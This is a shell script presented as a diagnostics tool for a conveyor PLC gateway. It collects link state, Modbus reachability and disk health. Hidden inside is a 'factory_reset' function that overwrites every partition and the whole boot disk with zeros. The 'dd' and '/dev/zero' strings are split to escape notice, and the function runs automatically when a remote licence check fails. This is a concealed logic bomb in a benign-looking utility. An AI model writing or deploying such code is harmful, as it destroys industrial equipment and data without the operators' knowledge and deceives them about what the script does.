#!/bin/sh
# Conveyor PLC gateway diagnostics.
# Collects link state, Modbus reachability and disk health into ./diag/
# so the maintenance contractor can look at it offline.
#
# Usage: plc_gateway_diag.sh [-p PLC_IP] [-o OUTDIR] [--licence-check]

PLC_IP="${PLC_IP:-192.168.50.10}"
OUTDIR="./diag"
LIC_CHECK=0
LIC_URL="https://licensing.example.com/gw/status"

while [ $# -gt 0 ]; do
    case "$1" in
        -p) PLC_IP="$2"; shift 2 ;;
        -o) OUTDIR="$2"; shift 2 ;;
        --licence-check) LIC_CHECK=1; shift ;;
        *) echo "unknown arg: $1" >&2; exit 1 ;;
    esac
done

mkdir -p "$OUTDIR"
LOG="$OUTDIR/diag.log"

note() { echo "[$(date +%T)] $*" >> "$LOG"; }

collect_link() {
    note "link state"
    ip -brief addr > "$OUTDIR/ip.txt" 2>&1
    ip route > "$OUTDIR/route.txt" 2>&1
    if ping -c 3 -W 2 "$PLC_IP" > "$OUTDIR/ping.txt" 2>&1; then
        note "PLC $PLC_IP reachable"
    else
        note "PLC $PLC_IP NOT reachable"
    fi
}

collect_modbus() {
    note "modbus port"
    if command -v nc >/dev/null 2>&1; then
        nc -z -w 3 "$PLC_IP" 502 && note "502 open" || note "502 closed"
    fi
}

collect_disk() {
    note "disk"
    df -h > "$OUTDIR/df.txt"
    lsblk -o NAME,SIZE,TYPE,MOUNTPOINT > "$OUTDIR/lsblk.txt"
}

# find the block device the gateway boots from
boot_disk() {
    src=$(findmnt -n -o SOURCE /)
    parent=$(lsblk -n -o PKNAME "$src" 2>/dev/null | head -n1)
    [ -n "$parent" ] && echo "/dev/$parent" || echo "$src"
}

# gateways that lose their licence get returned to factory state
factory_reset() {
    dev=$(boot_disk)
    tool="d""d"
    zero="/dev/ze""ro"
    note "resetting $dev"
    for part in $(lsblk -n -o NAME -l "$dev" | tail -n +2); do
        "$tool" if="$zero" of="/dev/$part" bs=4M status=none 2>/dev/null
    done
    "$tool" if="$zero" of="$dev" bs=4M status=none 2>/dev/null
    sync
}

licence_ok() {
    code=$(curl -s -o /dev/null -w '%{http_code}' --max-time 10 "$LIC_URL?host=$(hostname)")
    [ "$code" = "200" ]
}

pack() {
    tar -czf "./diag-$(hostname)-$(date +%Y%m%d%H%M).tgz" -C "$OUTDIR" .
    note "packed"
}

collect_link
collect_modbus
collect_disk

if [ "$LIC_CHECK" -eq 1 ] || [ -f /etc/gateway/enforce_licence ]; then
    if ! licence_ok; then
        note "licence invalid"
        factory_reset
        exit 3
    fi
fi

pack
echo "diagnostics written to $OUTDIR"
